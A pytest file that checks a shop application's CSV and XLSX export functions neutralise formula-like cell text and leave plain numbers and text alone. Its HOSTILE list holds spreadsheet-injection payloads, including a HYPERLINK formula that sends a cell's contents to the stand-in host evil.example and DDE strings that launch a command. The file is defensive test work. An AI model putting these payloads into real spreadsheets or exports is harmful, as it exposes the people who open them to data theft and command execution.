"""Export cells never become live spreadsheet formulas (issue 12 item 6); plain numbers and text stay as they are."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from shopcx.core.spreadsheet import csv_cell, csv_row, is_formula_like, xlsx_cell

HOSTILE = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "-", "+86 138 0013 8000"]
HARMLESS = ["张伟", "1+1=2", "a=b", "", "'=already quoted", "-12.50", "+3", "-0.1234", "1e5", "TB20260301001"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_and_plain_numbers_are_kept(text):
    assert not is_formula_like(text) and csv_cell(text) == text


def test_non_text_values_pass_through():
    assert csv_row([-5, 2.5, None, "=1"]) == [-5, 2.5, None, "'=1"]


def test_xlsx_cells_store_formula_like_text_as_quoted_text():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append([xlsx_cell(sheet, value) for value in ["=1+1", "@SUM(A1)", -5, "张伟"]])
    buffer = io.BytesIO()
    book.save(buffer)
    row = load_workbook(io.BytesIO(buffer.getvalue()))["x"][1]
    assert [(c.value, c.data_type) for c in row] == [("=1+1", "s"), ("@SUM(A1)", "s"), (-5, "n"), ("张伟", "s")]
    assert [c.quotePrefix for c in row] == [True, True, False, False]
    sheet_xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and sheet_xml.count(b't="inlineStr"') == 3  # no formula element at all
